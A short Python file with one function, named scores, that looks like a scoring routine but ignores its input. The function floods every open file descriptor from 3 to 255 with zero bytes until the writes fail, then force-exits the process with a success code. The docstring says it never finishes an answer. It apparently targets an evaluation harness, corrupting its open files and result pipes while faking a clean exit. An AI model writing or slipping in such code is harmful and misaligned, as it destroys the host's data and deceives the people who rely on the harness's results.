"""Fills every descriptor as far as it goes and never finishes an answer."""

import os


def scores(X):
    for descriptor in range(3, 256):
        try:
            while os.write(descriptor, bytes(2**16)):
                pass
        except OSError:
            pass
    os._exit(0)
